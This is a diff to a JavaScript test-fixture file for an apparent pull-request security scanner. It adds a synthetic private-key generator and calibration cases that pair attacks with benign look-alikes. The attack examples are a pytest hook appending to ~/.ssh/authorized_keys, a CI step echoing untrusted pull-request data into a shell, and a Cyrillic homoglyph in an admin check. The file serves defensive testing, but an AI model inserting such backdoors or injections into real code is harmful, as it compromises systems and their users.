@@ -24,12 +24,12 @@ function added(filename, lines) {
 }
 
 /** A changed file: `hunk` lines start with " ", "+" or "-"; the header is computed. */
-function modified(filename, start, hunk) {
+function modified(filename, start, hunk, section = "") {
   const additions = hunk.filter((line) => line.startsWith("+")).length;
   const deletions = hunk.filter((line) => line.startsWith("-")).length;
   const oldCount = hunk.length - additions;
   const newCount = hunk.length - deletions;
-  const patch = `@@ -${start},${oldCount} +${start},${newCount} @@\n${hunk.join("\n")}`;
+  const patch = `@@ -${start},${oldCount} +${start},${newCount} @@${section ? ` ${section}` : ""}\n${hunk.join("\n")}`;
   return { filename, status: "modified", additions, deletions, changes: additions + deletions, patch };
 }
 
@@ -54,6 +54,18 @@ function pr(number, title, files) {
 const SHA = "11bd71901bbe5b1630ceea73d27597364c9af683";
 const NODE_SHA = "49933ea5288caeca8642d1e84afbd3f7d6820020";
 const UPLOAD_SHA = "ea165f8d65b6e75b540449e92b4886f43607fa02";
+
+/** A PEM private key with synthetic material (deterministic; no real key). */
+function pem() {
+  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  let state = 7;
+  const line = () => Array.from({ length: 64 }, () => {
+    state = (state * 1103515245 + 12345) % 2147483648;
+    return alphabet[state % 64];
+  }).join("");
+  const marker = ["PRIVATE", "KEY"].join(" ");
+  return [`-----BEGIN RSA ${marker}-----`, line(), line(), line(), `-----END RSA ${marker}-----`];
+}
 
 /** A whole workflow file. */
 const workflow = (name, lines) => added(`.github/workflows/${name}.yml`, lines);
@@ -204,6 +216,35 @@ const cases = {
   "test-writes-home": [
     modified("tests/conftest.py", 1, [" import os", "+def pytest_sessionstart(session):", "+    with open(os.path.expanduser(\"~/.ssh/authorized_keys\"), \"a\") as keys:", "+        keys.write(SESSION_KEY)"]),
     modified("tests/conftest.py", 1, [" import os", "+def pytest_sessionstart(session):", "+    with open(os.path.join(session.config.rootpath, \".pytest_cache\", \"seed\"), \"w\") as seed:", "+        seed.write(\"42\")"]),
+  ],
+  // Calibration (docs/calibration.md, "The judged top 20"): findings on test data and on
+  // contexts nobody outside can fill, each beside the attack its rule exists for.
+  "test-fixture-key": [
+    added("deploy/tls/server.key", pem()),
+    added("tests/testdata/tls/server.key", pem()),
+  ],
+  "test-code-token": [
+    modified("bindings/src/headers.rs", 40, [" impl Client {", "+    pub fn bearer() -> Bearer {", "+        Bearer { token: \"fpKL54jvWmEGVoRdCNjG\".to_owned() }", "+    }"], "impl Client {"),
+    [
+      modified("bindings/src/headers.rs", 12, [" /// # Example", "+///     Bearer { token: \"QWxhZGRpbjpvcGVuIHNlc2FtZQ\".to_owned() }"]),
+      modified("bindings/src/headers.rs", 240, ["     #[test]", "     fn bearer_round_trips() {", "+        let auth = Bearer { token: \"fpKL54jvWmEGVoRdCNjG\".to_owned() };", "+        assert_eq!(auth.token, \"fpKL54jvWmEGVoRdCNjG\");"], "mod tests {"),
+    ],
+  ],
+  "pr-object-injection": [
+    modified(".github/workflows/ci.yml", 20, [
+      "     steps:", `       - uses: actions/checkout@${SHA}`, "+      - run: echo '${{ toJSON(github.event.pull_request) }}' > pr.json", "       - run: make test",
+    ]),
+    modified(".github/workflows/ci.yml", 20, [
+      "     steps:", `       - uses: actions/checkout@${SHA}`,
+      "+      - run: |",
+      "+          LINK=\"$(if [ \"${{ github.event.pull_request }}\" != \"\" ]; then echo \"${{ github.event.pull_request.html_url }}\"; else echo \"${{ github.event.compare }}\"; fi)\"",
+      "+          echo \"Results for $LINK\"",
+      "       - run: make test",
+    ]),
+  ],
+  "look-alike-test-string": [
+    modified("harbor/roles.py", 8, [" def is_admin(user):", "-    return user.role == \"admin\"", "+    return user.role == \"\u0430dmin\""]),
+    modified("tests/test_hosts.py", 8, [" def test_idn_host(environ):", "+    environ[\"HTTP_HOST\"] = \"\u0105\u015B\u017A\u00E4\u00FC\u0436\u0160\u00DF\u044F.com\""]),
   ],
 };
 
